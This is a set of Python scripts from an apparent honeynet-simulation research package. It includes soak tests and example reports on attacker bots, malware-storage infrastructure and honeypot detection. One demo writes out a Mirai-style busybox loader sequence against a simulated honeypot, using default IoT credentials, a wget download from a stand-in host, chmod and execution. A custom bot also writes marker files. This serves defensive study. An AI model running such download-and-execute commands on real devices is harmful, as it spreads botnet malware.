    exact = distance_matrix(corpus, workers=4)
    upper = np.triu_indices(len(corpus), k=1)
    close = exact[upper] <= LSH_CLOSE_THRESHOLD
    total_close = int(close.sum())
    print(
        f"lsh recall: {len(corpus)} sequences, {total_close} close pairs "
        f"(DLD <= {LSH_CLOSE_THRESHOLD})"
    )
    for bands in (16, 32, 64):
        config = SketchConfig(
            num_perm=DEFAULT_SKETCH_CONFIG.num_perm,
            bands=bands,
            shingle_size=DEFAULT_SKETCH_CONFIG.shingle_size,
            min_sequences=0,
        )
        clear_sketch_caches()
        approx = sketch_distance_matrix(corpus, config=config, workers=4)
        measured = ~approx.pruned[upper]
        recall = float(measured[close].mean()) if total_close else 1.0
        is_default = bands == DEFAULT_SKETCH_CONFIG.bands
        print(
            f"  bands={bands}: candidate_ratio={approx.candidate_ratio:.3f} "
            f"close_recall={recall:.4f}{' (default)' if is_default else ''}"
        )
        if not np.array_equal(exact[~approx.pruned], approx.values[~approx.pruned]):
            fail(f"measured sketch entries diverged from exact at bands={bands}")
        if not np.all(approx.values[approx.pruned] >= exact[approx.pruned]):
            fail(f"a pruned entry is not an upper bound at bands={bands}")
        if is_default:
            if recall < LSH_RECALL_FLOOR:
                fail(
                    f"default config close-pair recall {recall:.4f} below "
                    f"{LSH_RECALL_FLOOR}"
                )
            if approx.candidate_ratio >= LSH_RATIO_BAR:
                fail(
                    f"default config candidate ratio "
                    f"{approx.candidate_ratio:.3f} at/above {LSH_RATIO_BAR}"
                )


def check_mangled_tree_fails(serial, work: Path) -> None:
    mangled_dir = work / "mangled"
    mangled_dir.mkdir()
    path = mangled_dir / "sessions.jsonl"
    write_jsonl(serial.database.sessions[:500], path)
    corrupt_file(path, random.Random(7))
    audit = audit_tree(mangled_dir)
    if audit.ok:
        fail("verify passed a mangled, unrecovered tree")
    print(f"mangled tree correctly rejected ({len(audit.unexplained())} findings)")


def check_stream_chaos(config: SimulationConfig, work: Path) -> None:
    """Stream leg: supervision under elevated stream faults must be a
    pure function of the seed, conserve every record, survive a mid-run
    interrupt, and collapse back to batch bytes when the faults are off."""
    import dataclasses

    from repro.faults.plan import FloodFaults
    from repro.stream import StreamPolicy, run_stream

    flood_config = config.replace(
        faults=dataclasses.replace(
            config.faults, flood=FloodFaults.from_name("storm")
        )
    )

    first = run_stream(flood_config, policy=StreamPolicy.chaos())
    report = first.stream
    print(
        f"stream chaos: mode={report.mode}, "
        f"{len(report.transitions)} mode transitions, "
        f"{report.stalls} stalls, {report.forced_drains} forced drains, "
        f"{report.partition_replayed} partition replays, "
        f"{report.analysis_errors} analysis errors, "
        f"coverage {report.coverage_rate:.3f}, "
        f"digest {first.database.digest()[:16]}…"
    )
    if not report.transitions:
        fail("chaos preset never moved the degraded-mode ladder")
    if report.ledger_days != report.days:
        fail("rolling ledger did not audit every day boundary")
    collector = first.collector
    if not collector.accounting_balanced():
        fail("stream chaos run's conservation accounting does not balance")
    if collector.admitted != len(collector.sessions) + collector.deduplicated:
        fail("admitted != stored + deduplicated under stream chaos")

    again = run_stream(flood_config, policy=StreamPolicy.chaos())
    if again.database.digest() != first.database.digest():
        fail("same-seed stream chaos runs produced different digests")
    if again.stream.transitions != report.transitions:
        fail("same-seed stream chaos runs disagree on the mode timeline")
    if again.stream.breaker_transitions != report.breaker_transitions:
        fail("same-seed stream chaos runs disagree on breaker timelines")

    checkpoint = work / "stream-chaos.ckpt"
    run_stream(
        flood_config, policy=StreamPolicy.chaos(),
        checkpoint_path=checkpoint, checkpoint_every_days=14,
        stop_after=date(2023, 10, 2),
    )
    resumed = run_stream(
        flood_config, policy=StreamPolicy.chaos(),
        checkpoint_path=checkpoint, resume=True,
    )
    print(
        f"stream chaos resume: digest {resumed.database.digest()[:16]}…"
    )
    if resumed.database.digest() != first.database.digest():
        fail("interrupted stream chaos run resumed to a different digest")
    if resumed.collector.accounting() != collector.accounting():
        fail("interrupted stream chaos run resumed to a different ledger")

    batch = run_simulation(flood_config)
    replay = run_stream(flood_config, policy=StreamPolicy.live())
    if replay.database.digest() != batch.database.digest():
        fail("fault-free supervised stream diverged from batch digest")
    if replay.collector.accounting() != batch.collector.accounting():
        fail("fault-free supervised stream diverged from batch accounting")
    print("stream replay-vs-batch: digests identical")


def check_stream_serve(config: SimulationConfig, work: Path) -> None:
    """Serve leg: a snapshot publisher attached to the chaos stream —
    with live load bursts at every published boundary — must leave
    digests untouched, and a seeded chaos load test over the exported
    store must stay contractual and replay byte-identically."""
    import asyncio
    import dataclasses

    from repro.faults.plan import FloodFaults
    from repro.faults.service import ServiceFaults
    from repro.service import (
        QueryService,
        Request,
        ServiceLoadModel,
        SnapshotPublisher,
        run_load_test,
    )
    from repro.store import SqliteStore, export_indexed_tree, index_path_for
    from repro.stream import StreamPolicy, run_stream

    flood_config = config.replace(
        faults=dataclasses.replace(
            config.faults, flood=FloodFaults.from_name("storm")
        )
    )
    detached = run_stream(flood_config, policy=StreamPolicy.chaos())
    publisher = SnapshotPublisher()
    bursts = {"requests": 0}

    def burst(snapshot) -> None:
        # A live reader burst at each publish boundary: the publisher
        # hook drives a service over the snapshot mid-run, which must
        # observe and never mutate.
        service = QueryService(snapshot=snapshot)

        async def drive() -> None:
            for index in range(4):
                response = await service.handle(
                    Request(f"soak-{index}", "aggregate")
                )
                if response.outcome != "ok":
                    fail("day-boundary load burst got a non-ok response")

        asyncio.run(drive())
        bursts["requests"] += 4

    publisher.on_publish.append(burst)
    attached = run_stream(
        flood_config, policy=StreamPolicy.chaos(), publisher=publisher
    )
    print(
        f"stream serve: {publisher.published} snapshots published, "
        f"{publisher.skipped_clean} clean boundaries skipped, "
        f"{bursts['requests']} burst requests served, "
        f"digest {attached.database.digest()[:16]}…"
    )
    if attached.database.digest() != detached.database.digest():
        fail("attaching the snapshot publisher moved the dataset digest")
    if attached.collector.accounting() != detached.collector.accounting():
        fail("attaching the snapshot publisher moved the accounting")
    latest = publisher.latest
    if latest is None:
        fail("chaos stream run published no snapshot at all")
    if latest.sessions != len(attached.collector.sessions):
        fail("final snapshot does not describe the full stored corpus")
    if latest.ledger != attached.stream.ledger_verdict:
        fail("final snapshot carries a stale ledger verdict")

    store_dir = work / "serve-tree"
    export_indexed_tree(attached.database.sessions, store_dir)
    store = SqliteStore.open(index_path_for(store_dir), read_only=True)
    try:
        model = ServiceLoadModel(
            seed=config.seed,
            ticks=20,
            requests_per_tick=8,
            faults=ServiceFaults.from_name("chaos"),
        )
        first = run_load_test(
            QueryService(store=store, seed=config.seed), model
        )
        replay = run_load_test(
            QueryService(store=store, seed=config.seed), model
        )
    finally:
        store.close()
    print(
        f"stream serve load test: {first.total} requests, {first.ok} ok, "
        f"{first.stale} stale, {sum(first.rejected.values())} rejected, "
        f"cache hit ratio {first.cache_hit_ratio:.3f}"
    )
    if first.unserved:
        fail(f"{first.unserved} load-test requests resolved non-contractually")
    if first.digest() != replay.digest():
        fail("same-seed service load test replayed to a different ledger")


# ----------------------------------------------------------------------
# leg registry (execution order == registration order)
# ----------------------------------------------------------------------
leg("parallel")(lambda ctx: check_parallel_equivalence(ctx.config, ctx.serial))
leg("checkpoint")(
    lambda ctx: check_checkpoint_recovery(ctx.config, ctx.serial, ctx.work)
)
leg("export")(lambda ctx: check_export_recovery(ctx.config, ctx.serial, ctx.work))
leg("store")(lambda ctx: check_index_resilience(ctx.serial, ctx.work))
leg("mangled")(lambda ctx: check_mangled_tree_fails(ctx.serial, ctx.work))
leg("flood")(lambda ctx: check_flood_overload(ctx.config))
leg("lsh")(
    lambda ctx: check_lsh_recall(ctx.seed, ctx.lsh_corpus)
    if ctx.lsh_corpus
    else print("lsh leg skipped (--lsh-corpus 0)")
)
leg("stream-chaos")(lambda ctx: check_stream_chaos(ctx.config, ctx.work))
leg("stream-serve")(lambda ctx: check_stream_serve(ctx.config, ctx.work))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=33)
    parser.add_argument("--scale", type=float, default=1e-4)
    parser.add_argument(
        "--keep", type=Path, default=None, metavar="DIR",
        help="keep work artifacts in DIR instead of a temp directory",
    )
    parser.add_argument(
        "--lsh-corpus", type=int, default=2500, metavar="N",
        help="synthetic corpus size for the LSH recall sweep (0 skips it)",
    )
    parser.add_argument(
        "--only", choices=sorted(LEGS), default=None, metavar="LEG",
        help="run a single leg instead of the full battery",
    )
    parser.add_argument(
        "--list-legs", action="store_true",
        help="print the registered legs and exit",
    )
    args = parser.parse_args(argv)

    if args.list_legs:
        for name in LEGS:
            print(name)
        return 0

    config = SimulationConfig(
        seed=args.seed,
        scale=args.scale,
        faults=FaultProfile.stress(),
        **SOAK_WINDOW,
    )
    print(f"== soak: stress profile, seed={args.seed}, scale={args.scale} ==")

    work = args.keep or Path(tempfile.mkdtemp(prefix="soak-"))
    work.mkdir(parents=True, exist_ok=True)
    ctx = SoakContext(
        config=config, work=work, seed=args.seed, lsh_corpus=args.lsh_corpus
    )
    selected = [args.only] if args.only else list(LEGS)
    try:
        for name in selected:
            print(f"-- leg: {name} --")
            LEGS[name](ctx)
    finally:
        if args.keep is None:
            shutil.rmtree(work, ignore_errors=True)
    print(f"PASS: all soak checks held ({', '.join(selected)})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
