#!/usr/bin/env python3
"""Explore the malware-storage ecosystem (paper section 7).

Extracts the (client IP, storage IP) download observations from the
simulated honeynet, joins them against historical WHOIS, and prints the
Figure 7 Sankey flows, the Figure 8 AS age/size skew, and the Figure 9
activity-day recalls, with the paper's values alongside.

Run:  python examples/storage_infrastructure.py [--scale 1e-4]
"""

from __future__ import annotations

import argparse
from collections import Counter

from repro import SimulationConfig, build_dataset
from repro.analysis.storage import (
    AGE_BUCKETS,
    SIZE_BUCKETS,
    download_observations,
    infrastructure_observations,
    monthly_age_buckets,
    reappearance_after,
    recall_distribution,
    same_ip_fraction,
    summarize_storage_ases,
)
from repro.util.text import ascii_series, format_table


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=1e-4)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()

    dataset = build_dataset(SimulationConfig(scale=args.scale, seed=args.seed))
    observations = download_observations(dataset.database.command_sessions())
    infra = infrastructure_observations(observations)
    print(
        f"download observations: {len(observations)} "
        f"({len({o.storage_ip for o in observations})} storage IPs, "
        f"{len({o.client_ip for o in observations})} download clients)"
    )
    print(
        f"storage IP == client IP in {same_ip_fraction(observations):.0%} "
        "of observations (paper: 20%)\n"
    )

    summary = summarize_storage_ases(infra, dataset.whois, dataset.config.end)
    print(
        f"storage-AS census: {summary.total_ases} ASes "
        f"({summary.hosting_ases} hosting, {summary.isp_ases} ISP/NSP, "
        f"{summary.down_ases} now down) — paper: 388 (358/30/36)\n"
    )

    print("AS age of storage at download time (paper: >35% <1y, >70% <5y):")
    ages = [summary.age_session_shares.get(bucket, 0.0) for bucket in AGE_BUCKETS]
    print(ascii_series(list(AGE_BUCKETS), [round(a * 100, 1) for a in ages]))
    print()

    print("AS size in /24s (paper: ~20% single /24, ~50% under fifty):")
    sizes = [summary.size_session_shares.get(bucket, 0.0) for bucket in SIZE_BUCKETS]
    print(ascii_series(list(SIZE_BUCKETS), [round(s * 100, 1) for s in sizes]))
    print()

    print("activity-day recall (Figure 9):")
    rows = []
    for name, days in (("1-week", 7.0), ("4-week", 28.0), ("all", float("inf"))):
        totals: Counter = Counter()
        for counter in recall_distribution(infra, days).values():
            totals.update(counter)
        grand = sum(totals.values()) or 1
        top = ", ".join(
            f"{cls}:{count / grand:.0%}" for cls, count in totals.most_common(4)
        )
        rows.append([name, top])
    print(format_table(["recall", "activity-span distribution"], rows))
    print(
        f"\nIPs reappearing after ≥6 months: "
        f"{reappearance_after(infra):.0%} (paper: ~25%)"
    )


if __name__ == "__main__":
    main()
