#!/usr/bin/env python3
"""Print the attacker ecosystem's activity timeline (a text Gantt).

Shows when every bot in the roster is active across the 33-month
window and at roughly what intensity — the generative design behind
Figures 2, 3 and 6.  No simulation needed: this reads the activity
models directly.

Run:  python examples/bot_timeline.py [--min-volume 100000]
"""

from __future__ import annotations

import argparse

from repro.attackers.activity import total_rate
from repro.attackers.fleetplan import build_fleet
from repro.config import DEFAULT_CONFIG
from repro.net.population import build_base_population
from repro.util.rng import RngTree
from repro.util.timeutils import months_between, parse_month

#: Intensity glyphs: quiet → busy (relative to the bot's own peak).
RAMP = " .:*#"


def monthly_profile(bot, months: list[str]) -> list[float]:
    """Mean daily rate per month for one bot."""
    from repro.util.timeutils import days_in_month, parse_month
    from datetime import timedelta

    profile = []
    for key in months:
        first = parse_month(key)
        total = sum(
            bot.activity.rate(first + timedelta(days=offset))
            for offset in range(0, days_in_month(key), 7)
        )
        profile.append(total)
    return profile


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--min-volume",
        type=float,
        default=0.0,
        help="hide bots below this total paper-scale session volume",
    )
    args = parser.parse_args()

    population = build_base_population(
        RngTree(DEFAULT_CONFIG.seed).child("net"), DEFAULT_CONFIG.n_honeypot_ases
    )
    fleet = build_fleet(
        population, RngTree(DEFAULT_CONFIG.seed).child("fleet"), DEFAULT_CONFIG
    )
    months = months_between(DEFAULT_CONFIG.start, DEFAULT_CONFIG.end)

    ranked = sorted(
        fleet,
        key=lambda bot: -total_rate(
            bot.activity, DEFAULT_CONFIG.start, DEFAULT_CONFIG.end
        ),
    )
    name_width = max(len(bot.name) for bot in ranked)
    year_marks = "".join(
        "|" if parse_month(m).month == 1 else " " for m in months
    )
    print(f"{''.ljust(name_width)}  {year_marks}   total sessions (paper scale)")
    for bot in ranked:
        volume = total_rate(bot.activity, DEFAULT_CONFIG.start, DEFAULT_CONFIG.end)
        if volume < args.min_volume:
            continue
        profile = monthly_profile(bot, months)
        peak = max(profile) or 1.0
        bars = "".join(
            RAMP[min(len(RAMP) - 1, int(value / peak * (len(RAMP) - 1) + 0.5))]
            for value in profile
        )
        print(f"{bot.name.ljust(name_width)}  {bars}   {volume / 1e6:7.2f}M")
    print(
        f"\n({len(months)} months, {months[0]} .. {months[-1]}; "
        "'|' marks each January; intensity is relative to each bot's peak)"
    )


if __name__ == "__main__":
    main()
