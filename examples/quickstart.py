#!/usr/bin/env python3
"""Quickstart: simulate the honeynet and reproduce the headline results.

Builds a scaled-down 33-month dataset (a few seconds), prints the
section-3.3 dataset statistics, the Figure 1 behavioural shift and the
Figure 2 bot ranking — the paper's core findings — as text reports.

Run:  python examples/quickstart.py [--scale 2e-5] [--seed 7]
"""

from __future__ import annotations

import argparse

from repro import SimulationConfig, build_dataset
from repro.experiments.runner import get_experiment, load_all_experiments


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=2e-5)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()

    config = SimulationConfig(scale=args.scale, seed=args.seed)
    print(f"simulating 33 months at scale={config.scale} ...")
    dataset = build_dataset(config)
    db = dataset.database
    print(
        f"done: {len(db)} sessions total, {len(db.ssh_sessions())} SSH, "
        f"{len(db.unique_client_ips())} unique client IPs, "
        f"{len(db.unique_hashes())} unique file hashes\n"
    )

    load_all_experiments()
    for experiment_id in ("table_stats", "fig01", "fig02"):
        result = get_experiment(experiment_id).run(dataset)
        print(result.render())
        print()


if __name__ == "__main__":
    main()
