#!/usr/bin/env python3
"""Demonstrate the section-10 "better honeypots" proposal.

Runs the write-then-check consistency probe (the behaviour the paper
attributes to bots that drop random files without executing them)
against four honeypot configurations and shows which ones the probe
exposes.

Run:  python examples/stateful_honeypot.py
"""

from __future__ import annotations

import random

from repro.honeypot import (
    ConnectionIntent,
    CowrieHoneypot,
    StatefulCowrieHoneypot,
    probe_detects_honeypot,
)


def demo_probe_transcript() -> None:
    """Show the probe itself against stock Cowrie, step by step."""
    honeypot = CowrieHoneypot("hp-demo", "192.0.2.1")
    write = ConnectionIntent(
        client_ip="203.0.113.5",
        credentials=(("root", "admin"),),
        command_lines=("echo kxwqzbtr > /var/tmp/.kxwqzbtr",),
    )
    check = ConnectionIntent(
        client_ip="203.0.113.5",
        credentials=(("root", "admin"),),
        command_lines=("cat /var/tmp/.kxwqzbtr",),
    )
    print("session 1 (attacker writes a random marker):")
    record = honeypot.handle(write, 0.0)
    print(f"  $ {record.commands[0].raw}")
    print("\nsession 2, an hour later (attacker checks the marker):")
    record = honeypot.handle(check, 3600.0)
    print(f"  $ {record.commands[0].raw}")
    print(f"  {record.commands[0].output.strip()}")
    print("  → the marker vanished: this machine resets between logins.")
    print("  → conclusion for the attacker: HONEYPOT.\n")


def compare_modes(probes: int = 25) -> None:
    rng = random.Random(7)
    modes = [
        ("stock Cowrie (stateless)", lambda: CowrieHoneypot("hp", "192.0.2.1")),
        ("stateful", lambda: StatefulCowrieHoneypot("hp", "192.0.2.1")),
        (
            "stateful, per-client",
            lambda: StatefulCowrieHoneypot("hp", "192.0.2.1", per_client=True),
        ),
        (
            "stateful, 24h rollback",
            lambda: StatefulCowrieHoneypot(
                "hp", "192.0.2.1", reset_after_s=24 * 3600.0
            ),
        ),
    ]
    print(f"running {probes} write-then-check probes per mode:")
    for name, factory in modes:
        honeypot = factory()
        detected = sum(
            probe_detects_honeypot(
                honeypot,
                "".join(rng.choice("bcdfghjklmnpqrtvwxz") for _ in range(8)),
                when=index * 7200.0,
            )
            for index in range(probes)
        )
        print(f"  {name:28s} exposed in {detected}/{probes} probes")
    print(
        "\nPersistence defeats the probe; the rollback horizon trades "
        "deception quality against cross-attacker contamination."
    )


def main() -> None:
    demo_probe_transcript()
    compare_modes()


if __name__ == "__main__":
    main()
