#!/usr/bin/env python3
"""Reproduce the section-9 "mdrfckr" case study end to end.

Selects the actor's sessions forensically (via the Table-1 classifier),
splits the behavioural variants, decodes the base64 uploads seen during
low-activity windows, recovers the C2 IP set from the cleanup scripts,
correlates activity collapses with documented external events, and
cross-references Killnet and Shadowserver.

Run:  python examples/mdrfckr_case_study.py [--scale 1e-4]
"""

from __future__ import annotations

import argparse
from collections import Counter

from repro import SimulationConfig, build_dataset
from repro.analysis.mdrfckr_case import (
    base64_uploader_ips,
    c2_ips_from_cleanups,
    correlate_events,
    daily_activity,
    decode_base64_uploads,
    detect_low_activity_windows,
    ip_overlap_with_campaign,
    mdrfckr_sessions,
    split_variants,
)
from repro.attackers.bots.mdrfckr import MDRFCKR_KEY
from repro.util.hashing import sha256_hex


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=1e-4)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()

    dataset = build_dataset(SimulationConfig(scale=args.scale, seed=args.seed))
    ssh = dataset.database.ssh_sessions()
    commands = dataset.database.command_sessions()

    actor = mdrfckr_sessions(commands)
    initial, variant = split_variants(actor)
    print(f"mdrfckr sessions: {len(actor)} "
          f"({len(initial)} initial, {len(variant)} variant) "
          f"from {len({s.client_ip for s in actor})} client IPs")

    overlap = ip_overlap_with_campaign(actor, ssh)
    print(f"client-IP overlap with the 3245gs5662d34 campaign: {overlap:.1%}")

    activity = daily_activity(actor)
    per_day = {day: count for day, (count, _) in activity.items()}
    windows = detect_low_activity_windows(per_day)
    correlation = correlate_events(windows)
    print(f"\nlow-activity windows detected: {len(windows)}")
    for event in correlation.matched_events:
        print(f"  matched event {event.start}..{event.end}: {event.description}")
    for event in correlation.unmatched_events:
        print(f"  UNMATCHED event {event.start}..{event.end}")

    decoded = decode_base64_uploads(actor)
    kinds = Counter(script.kind for script in decoded)
    print(f"\nbase64 uploads decoded: {len(decoded)} {dict(kinds)}")
    print(f"distinct uploader IPs: {len(base64_uploader_ips(decoded))}")
    c2 = sorted(c2_ips_from_cleanups(decoded))
    print(f"C2 IPs referenced by cleanup scripts: {c2}")

    killnet_overlap = {s.client_ip for s in actor} & dataset.killnet_ips
    print(f"\nKillnet proxy-list overlap: {len(killnet_overlap)} IPs")
    key_hash = sha256_hex(MDRFCKR_KEY)
    print(
        "Shadowserver compromised-SSH report: mdrfckr key on "
        f"{dataset.shadowserver.host_count(key_hash)} hosts "
        f"(most prevalent: {dataset.shadowserver.most_prevalent() == key_hash})"
    )


if __name__ == "__main__":
    main()
