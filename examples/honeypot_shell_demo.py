#!/usr/bin/env python3
"""Drive one Cowrie-like honeypot with a scripted IoT loader intrusion.

Shows the honeypot API directly: what a Mirai-style busybox loader
sends, and exactly what the sensor records — login attempts, per-line
known/unknown commands, captured URIs, and SHA-256 file events
(including the "file missing" signal when the dropper's server refuses
the honeypot).

Run:  python examples/honeypot_shell_demo.py
"""

from __future__ import annotations

from repro.honeypot import ConnectionIntent, CowrieHoneypot

LOADER_URL = "http://203.0.113.50/mirai.arm7"


def show_session(title: str, record) -> None:
    print(f"--- {title} ---")
    for attempt in record.logins:
        status = "ACCEPTED" if attempt.success else "rejected"
        print(f"login {attempt.username}:{attempt.password} -> {status}")
    for command in record.commands:
        marker = "known  " if command.known else "UNKNOWN"
        print(f"[{marker}] $ {command.raw}")
        for line in command.output.splitlines()[:2]:
            print(f"          {line}")
    for uri in record.uris:
        print(f"URI recorded: {uri}")
    for event in record.file_events:
        digest = (event.sha256 or "-")[:16]
        print(f"file event: {event.op.value:16s} {event.path}  sha256={digest}")
    print()


def main() -> None:
    honeypot = CowrieHoneypot(honeypot_id="hp-demo", ip="192.0.2.10")

    # attempt 1: the download server cooperates → artifact captured
    cooperative = ConnectionIntent(
        client_ip="198.51.100.7",
        credentials=(("root", "root"), ("root", "vizxv")),
        command_lines=(
            "/bin/busybox ECCHI",
            "cd /tmp || cd /var/run || cd /mnt",
            f"/bin/busybox wget {LOADER_URL} -O mirai.arm7",
            "/bin/busybox chmod 777 mirai.arm7",
            "./mirai.arm7 loader.scan",
            "rm -rf mirai.arm7",
        ),
        remote_files=((LOADER_URL, b"\x7fELF\x01synthetic-mirai-sample"),),
    )
    show_session("cooperative infrastructure (file captured)",
                 honeypot.handle(cooperative, when=1_650_000_000.0))

    # attempt 2: same behaviour, but the server refuses the honeypot —
    # the execution attempt records a missing file (Figure 4(b))
    refusing = ConnectionIntent(
        client_ip="198.51.100.7",
        credentials=(("root", "vizxv"),),
        command_lines=(
            f"/bin/busybox wget {LOADER_URL} -O mirai.arm7",
            "./mirai.arm7 loader.scan",
        ),
    )
    show_session("refusing infrastructure (file missing)",
                 honeypot.handle(refusing, when=1_650_000_100.0))

    # attempt 3: honeypot fingerprinting via the Cowrie default account
    fingerprint = ConnectionIntent(
        client_ip="203.0.113.99",
        credentials=(("phil", "fout"),),
    )
    show_session("Cowrie fingerprinting probe (phil)",
                 honeypot.handle(fingerprint, when=1_650_000_200.0))


if __name__ == "__main__":
    main()
