#!/usr/bin/env python3
"""Extend the ecosystem: add a new attacker behaviour and observe it.

Defines a hypothetical "consistency prober" bot (writes a marker file,
reads it back, checks crontab — a honeypot-detection behaviour the
paper anticipates), injects it into the simulation alongside the
paper's roster, and shows where the Table-1 classifier puts it.

Run:  python examples/custom_bot.py
"""

from __future__ import annotations

import random
from collections import Counter
from datetime import date

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.attackers.activity import Campaign
from repro.attackers.base import Bot, BotContext
from repro.attackers.ippool import ClientIPPool
from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig
from repro.honeypot.session import ConnectionIntent


class ConsistencyProberBot(Bot):
    """Writes a random marker, reads it back, inspects persistence."""

    def __init__(self, population, tree, config) -> None:
        pool = ClientIPPool(
            "consistency_prober", population, tree,
            paper_ips=5_000, scale=config.scale,
        )
        activity = Campaign(config.start, config.end, per_day=40_000)
        super().__init__("consistency_prober", activity, pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        marker = "".join(rng.choice("bcdfghjklmnpqrtvwxz") for _ in range(8))
        lines = (
            f"echo {marker} > /var/tmp/.{marker}",
            f"cat /var/tmp/.{marker}",
            "crontab -l",
            f"rm -rf /var/tmp/.{marker}",
        )
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("admin", "1234"))),),
            command_lines=lines,
        )


def main() -> None:
    config = SimulationConfig(
        seed=42, scale=1e-4, start=date(2023, 1, 1), end=date(2023, 2, 28)
    )
    result = run_simulation(
        config,
        extra_bots_factory=lambda population, tree, cfg: [
            ConsistencyProberBot(population, tree, cfg)
        ],
    )

    mine = [
        s for s in result.database.command_sessions()
        if s.bot_label == "consistency_prober"
    ]
    print(f"simulated {len(result.database)} sessions over two months;")
    print(f"the new bot produced {len(mine)} command sessions\n")

    sample = mine[0]
    print("sample session commands:")
    for command in sample.commands:
        print(f"  $ {command.raw}")
    print()

    categories = Counter(DEFAULT_CLASSIFIER.classify(s) for s in mine)
    print("Table-1 categories assigned to the new behaviour:")
    for category, count in categories.most_common():
        print(f"  {category}: {count}")
    print(
        "\n(the echo-based write lands in the generic gen_echo bucket — "
        "a new regex rule would be needed to give it its own category, "
        "exactly the iterative process the paper describes)"
    )


if __name__ == "__main__":
    main()
